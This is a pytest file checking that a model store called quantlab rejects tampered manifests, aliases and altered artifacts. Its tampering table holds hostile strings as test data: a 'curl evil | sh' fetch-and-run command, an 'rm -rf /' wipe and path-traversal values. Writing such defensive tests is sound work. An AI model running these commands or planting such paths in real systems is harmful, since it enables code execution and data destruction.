"""Untrusted files in the store: manifests and aliases someone else wrote, artifacts that changed.

A small but real run folder is written by hand (a scripted module, its sha256 in a manifest,
an alias); then each test alters one thing the way an attacker or a broken writer could, and
checks that quantlab refuses it with a clear IntegrityError before writing or loading anything.
"""

from __future__ import annotations

import os

import pytest
import torch

from quantlab import export, pipeline, registry
from quantlab.errors import IntegrityError
from quantlab.store import Store
from tests.support import make_config

RUN = "r1"


@pytest.fixture
def store(tmp_path) -> Store:
    """A local store holding run r1 (one float artifact) and the alias `latest` -> r1."""
    store = Store(str(tmp_path / "store"))
    payload = export.to_bytes(torch.jit.script(torch.nn.Linear(2, 2)))
    entry = registry.ArtifactEntry(variant="float", method="float",
                                   path=registry.artifact_path("float"),
                                   sha256=export.sha256(payload), bytes=len(payload))
    store.write_bytes(f"runs/{RUN}/{entry.path}", payload)
    when = "2026-01-01T00:00:00Z"
    manifest = registry.Manifest(
        run_id=RUN, status="succeeded", created_at=when, finished_at=when, model="mobilenet_v2",
        input_size=32, max_accuracy_drop=1.0, config={}, versions=pipeline.versions(),
        dataset=registry.DatasetInfo(uri="d", fingerprint="f", classes=["a"], num_train=1,
                                     num_val=1),
        artifacts=[entry],
        results=[registry.ResultRow(variant="float", method="float", top1=1.0, top5=1.0,
                                    size_bytes=len(payload), latency_ms=None, speedup=None)],
        selected=registry.Selection(variant="float", reason="only one", within_budget=True))
    store.write_json(f"runs/{RUN}/manifest.json", manifest.model_dump(mode="json"))
    registry.write_alias(store, "latest", RUN, "mobilenet_v2", "float", manifest.created_at)
    return store


def edit(store: Store, rel: str, change) -> None:
    doc = store.read_json(rel)
    change(doc)
    store.write_json(rel, doc)


def files_below(root) -> list[str]:
    return sorted(os.path.relpath(os.path.join(d, n), root)
                  for d, _, names in os.walk(root) for n in names)


def test_a_valid_manifest_is_pulled_and_lists_the_versions(store, tmp_path):
    m = registry.load_manifest(store, RUN)
    assert {"quantlab", "torch"} <= set(m.versions)
    (tmp_path / "out").mkdir()
    dest = registry.pull(store, "latest", dest=str(tmp_path / "out"))
    assert dest == str(tmp_path / "out" / f"mobilenet_v2-float-{RUN}.pt")
    assert torch.jit.load(dest)(torch.ones(1, 2)).shape == (1, 2)


TAMPERED = {
    "manifest with an unexpected field": (
        "manifest", lambda d: d.update(postinstall="curl evil | sh"),
        "is not a valid manifest: postinstall: Extra inputs are not permitted"),
    "manifest field of the wrong type": (
        "manifest", lambda d: d["artifacts"][0].update(bytes="many"),
        "is not a valid manifest: artifacts.0.bytes: Input should be a valid integer"),
    "artifact path that climbs out of the run": (
        "manifest", lambda d: d["artifacts"][0].update(path="../../../../outside.pt"),
        "artifacts.0.path: Value error, artifact path '../../../../outside.pt' must be a plain "
        "relative path"),
    "model name with a path": (
        "manifest", lambda d: d.update(model="../../evil"),
        "is not a valid manifest: model: String should match pattern"),
    "manifest of another run": (
        "manifest", lambda d: d.update(run_id="r2"), "names run 'r2', not 'r1'; refusing it"),
    "manifest that is not JSON": ("manifest", None, "manifest.json is not valid JSON"),
    "alias with an unexpected field": (
        "alias", lambda d: d.update(command="rm -rf /"),
        "aliases/latest.json is not a valid alias: command: Extra inputs are not permitted"),
    "alias pointing outside the runs": (
        "alias", lambda d: d.update(run_id="../../etc"),
        "is not a valid alias: run_id: String should match pattern"),
}


@pytest.mark.parametrize("case", TAMPERED)
def test_tampered_manifests_and_aliases_are_refused(case, store, tmp_path):
    which, change, needle = TAMPERED[case]
    rel = f"runs/{RUN}/manifest.json" if which == "manifest" else "aliases/latest.json"
    if change is None:
        store.write_bytes(rel, b"{not json")
    else:
        edit(store, rel, change)
    (tmp_path / "out").mkdir()
    before = files_below(tmp_path)
    with pytest.raises(IntegrityError) as e:
        registry.pull(store, "latest", dest=str(tmp_path / "out"))
    assert needle in str(e.value)
    assert files_below(tmp_path) == before  # nothing written, inside --dest or outside
    if which == "manifest":
        assert registry.list_runs(store) == []  # skipped (and logged), never listed


def test_artifact_is_verified_before_torch_jit_load(store, monkeypatch):
    m = registry.load_manifest(store, RUN)
    rel = f"runs/{RUN}/{m.artifacts[0].path}"
    store.write_bytes(rel, store.read_bytes(rel)[:-4] + b"evil")
    loaded = []
    monkeypatch.setattr(export, "load", lambda *a, **k: loaded.append(a))
    cfg = make_config("data", "float.pth", store.root, "unused")  # only the store is used
    with pytest.raises(IntegrityError, match="does not match its manifest"):
        registry.load_artifact(pipeline.store_of(cfg), RUN, m.artifacts[0])
    assert loaded == []
    with pytest.raises(IntegrityError, match="does not match run r1's manifest"):
        registry.pull(store, RUN, dest=str(store.root) + "-pulled.pt")
    assert not os.path.exists(str(store.root) + "-pulled.pt")

